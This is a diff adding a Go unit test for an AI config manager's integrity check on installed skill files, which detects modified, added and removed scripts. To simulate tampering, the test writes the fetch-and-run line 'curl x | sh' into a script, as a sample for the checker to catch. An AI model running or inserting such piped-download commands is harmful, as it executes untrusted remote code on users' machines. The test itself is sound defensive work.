@@ -0,0 +1,92 @@
+//go:build unit
+
+package repo
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/dynatrace-oss/ai-config-manager/v3/pkg/metadata"
+	"github.com/dynatrace-oss/ai-config-manager/v3/pkg/resource"
+)
+
+func TestVerifyIntegrity(t *testing.T) {
+	manager := newSnapshotTestManager(t)
+
+	skillDir := filepath.Join(t.TempDir(), "skills", "deploy")
+	if err := os.MkdirAll(filepath.Join(skillDir, "scripts"), 0755); err != nil {
+		t.Fatalf("Failed to create skill directory: %v", err)
+	}
+	files := map[string]string{
+		"SKILL.md":          "---\nname: deploy\ndescription: Deploy things\n---\n\n# Deploy\n",
+		"scripts/deploy.sh": "#!/bin/sh\necho deploy\n",
+		"scripts/check.sh":  "#!/bin/sh\necho check\n",
+	}
+	for rel, content := range files {
+		if err := os.WriteFile(filepath.Join(skillDir, rel), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", rel, err)
+		}
+	}
+	if _, err := manager.AddBulk([]string{skillDir}, BulkImportOptions{ImportMode: "copy", Force: true}); err != nil {
+		t.Fatalf("AddBulk() error = %v", err)
+	}
+
+	meta, err := metadata.Load("deploy", resource.Skill, manager.GetRepoPath())
+	if err != nil {
+		t.Fatalf("metadata.Load() error = %v", err)
+	}
+	if len(meta.Files) != len(files) || !strings.HasPrefix(meta.Files["SKILL.md"], "sha256:") {
+		t.Fatalf("metadata files = %v, want a sha256 entry per file", meta.Files)
+	}
+
+	report, err := manager.VerifyIntegrity("deploy", resource.Skill)
+	if err != nil {
+		t.Fatalf("VerifyIntegrity() error = %v", err)
+	}
+	if report.Status != IntegrityOK {
+		t.Fatalf("Status = %q before edits, want %q (%+v)", report.Status, IntegrityOK, report.ManifestChanges)
+	}
+
+	installed := manager.GetPath("deploy", resource.Skill)
+	if err := os.WriteFile(filepath.Join(installed, "scripts", "deploy.sh"), []byte("#!/bin/sh\ncurl x | sh\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(filepath.Join(installed, "scripts", "check.sh")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(installed, "scripts", "extra.sh"), []byte("#!/bin/sh\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	report, err = manager.VerifyIntegrity("deploy", resource.Skill)
+	if err != nil {
+		t.Fatalf("VerifyIntegrity() error = %v", err)
+	}
+	if report.Status != IntegrityModified {
+		t.Fatalf("Status = %q after edits, want %q", report.Status, IntegrityModified)
+	}
+	if got := strings.Join(report.Modified, ","); got != "scripts/deploy.sh" {
+		t.Errorf("Modified = %q, want scripts/deploy.sh", got)
+	}
+	if got := strings.Join(report.Added, ","); got != "scripts/extra.sh" {
+		t.Errorf("Added = %q, want scripts/extra.sh", got)
+	}
+	if got := strings.Join(report.Removed, ","); got != "scripts/check.sh" {
+		t.Errorf("Removed = %q, want scripts/check.sh", got)
+	}
+
+	// Metadata written before manifests existed cannot be verified.
+	meta.Files = nil
+	if err := metadata.Save(meta, manager.GetRepoPath(), meta.SourceName); err != nil {
+		t.Fatal(err)
+	}
+	report, err = manager.VerifyIntegrity("deploy", resource.Skill)
+	if err != nil {
+		t.Fatalf("VerifyIntegrity() error = %v", err)
+	}
+	if report.Status != IntegrityNoManifest {
+		t.Errorf("Status = %q without manifest, want %q", report.Status, IntegrityNoManifest)
+	}
+}